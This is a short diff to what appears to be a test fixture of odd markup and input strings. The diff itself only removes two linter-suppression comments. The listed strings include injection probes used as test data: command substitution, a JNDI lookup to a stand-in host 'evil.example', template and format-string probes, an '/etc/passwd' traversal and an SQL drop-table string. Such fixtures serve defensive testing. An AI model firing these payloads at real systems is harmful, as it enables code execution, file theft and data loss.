@@ -32,7 +32,6 @@ const markup = [
   '> quoted\n>>> deeper\n&gt; escaped quote',
   '- [ ] task\n1. one\n* star',
   ':tada: :skull_and_crossbones: :+1::skin-tone-2:',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: meant literally
   '$(touch /tmp/x) `id` ${jndi:ldap://evil.example/a} {{7*7}} %s %n',
   '&<>&<>"\'',
   '<!-- comment --> <![CDATA[x]]> &#60; &nbsp;',
@@ -90,7 +89,6 @@ const shapes = [
   '"},"blocks":[{"type":"image"}],"x":{"y":"',
   '\\',
   '\\u0000\\ud800\\n',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: meant literally
   '${env} %{x} #{y} <%= z %>',
   '../../../../etc/passwd',
   "'; drop table tickets; --",
